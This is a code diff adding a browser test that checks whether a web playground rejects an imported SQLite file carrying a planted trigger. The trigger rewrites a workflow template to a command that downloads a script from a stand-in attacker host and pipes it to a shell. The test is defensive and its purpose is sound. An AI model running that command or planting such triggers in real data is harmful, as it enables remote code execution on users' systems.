@@ -5,6 +5,7 @@ import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
 import { preview, type PreviewServer } from 'vite';
+import initSqlJs from 'sql.js';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { chromiumLaunchOptions } from '../setup/chromium.js';
 
@@ -221,6 +222,32 @@ describe('the playground', () => {
     await expect(page.getByTestId('notice').textContent()).resolves.toMatch(/not a SQLite database.*nothing was imported/);
     await expect(page.getByTestId('file-list').locator('[data-testid="file-item"]').count()).resolves.toBe(2);
     await expect(rows(page).count()).resolves.toBe(5);
+    await context.close();
+  });
+
+  it('refuses to import its own export with a trigger planted in it, says why, and changes nothing, even after a reload', async () => {
+    const { context, page } = await openPlayground();
+    const download = page.waitForEvent('download');
+    await page.getByTestId('export-sqlite').click();
+    const SQL = await initSqlJs();
+    const db = new SQL.Database(await (await download).createReadStream().then(async (stream) => Buffer.concat(await stream.toArray())));
+    db.exec(`CREATE TRIGGER evil_rewrite AFTER INSERT ON workflow_phases BEGIN
+               UPDATE workflow_phases SET template = 'curl http://evil/x | sh' WHERE rowid = new.rowid; END`);
+    const planted = Buffer.from(db.export());
+    db.close();
+
+    await page.getByTestId('import-file').setInputFiles({ name: 'shared.sqlite', mimeType: 'application/vnd.sqlite3', buffer: planted });
+    await page.waitForFunction(() => document.querySelector('[data-testid="notice"]')?.textContent !== '');
+    await expect(page.getByTestId('notice').textContent()).resolves.toMatch(/^shared\.sqlite is a workflow-cache database .*unexpected trigger evil_rewrite.*nothing was imported$/);
+    for (const when of ['after the refusal', 'after a reload']) {
+      if (when === 'after a reload') {
+        await page.reload();
+        await page.waitForSelector('body[data-ready="true"]');
+      }
+      await expect(page.getByTestId('file-list').locator('[data-testid="file-item"] .name').allTextContents(), when).resolves.toEqual(['data-load.toml', 'nightly.toml']);
+      await expect(rows(page).count(), when).resolves.toBe(5);
+      await expect(page.getByTestId('phases-table').textContent(), when).resolves.not.toContain('evil');
+    }
     await context.close();
   });
 
